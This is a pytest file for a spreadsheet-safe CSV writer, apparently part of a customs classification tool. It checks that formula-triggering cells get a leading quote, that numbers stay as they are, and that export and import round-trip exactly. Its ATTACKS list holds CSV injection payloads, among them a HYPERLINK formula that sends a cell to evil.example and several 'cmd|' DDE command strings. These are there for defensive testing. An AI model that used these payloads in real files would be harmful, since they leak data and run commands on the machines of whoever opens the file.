"""CSV written for spreadsheets: formulas neutralised, numbers kept, round trip exact."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from borderwatch.io.spreadsheet import (
    FORMULA_TRIGGERS,
    SafeCSVWriter,
    escape_cell,
    unescape_cell,
)
from borderwatch.store import open_database
from borderwatch.store.classification_decisions import (
    Confirmation,
    export_csv,
    import_csv,
    record_confirmation,
    stored_confirmations,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_cells_that_would_run_as_formulas_get_a_quote(attack: str) -> None:
    escaped = escape_cell(attack)
    assert escaped == "'" + attack
    assert unescape_cell(escaped) == attack


@pytest.mark.parametrize(
    "plain", ["-5", "-0.5", "+3", "1e5", "-1.5E-3", "rice cooker", "'quoted'", "", "a=b"]
)
def test_numbers_and_plain_text_are_left_as_they_are(plain: str) -> None:
    assert escape_cell(plain) == plain
    assert unescape_cell(plain) == plain


def test_the_writer_escapes_every_cell() -> None:
    out = io.StringIO()
    SafeCSVWriter(out).writerow(["=1+1", -5, None, "@A1"])
    assert out.getvalue() == "'=1+1,-5,,'@A1\r\n"


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=40) | st.sampled_from(ATTACKS).map(lambda a: "'" * 2 + a))
def test_escaping_round_trips_and_never_leaves_a_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    if escaped.startswith(FORMULA_TRIGGERS):  # only a plain number may start so
        assert re.fullmatch(r"[+-]\d*\.?\d*([eE][+-]?\d+)?", escaped), escaped


@pytest.mark.parametrize("attack", ATTACKS)
def test_exported_decisions_are_neutralised_and_import_restores_them(
    attack: str, tmp_path: Path
) -> None:
    engine = open_database(f"sqlite:///{tmp_path / 'store.sqlite'}")
    record_confirmation(
        engine, Confirmation(attack, "851660", lang="en", officer=attack, suggested="851660")
    )
    out = io.StringIO()
    export_csv(engine, out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["description"] == "'" + attack.strip()
    assert row["officer"] == "'" + attack

    other = open_database(f"sqlite:///{tmp_path / 'other.sqlite'}")
    assert import_csv(other, io.StringIO(out.getvalue()), source="moved.csv") == (1, [])
    (moved,) = stored_confirmations(other)
    assert (moved.description, moved.officer) == (attack.strip(), attack)
    engine.dispose()
    other.dispose()
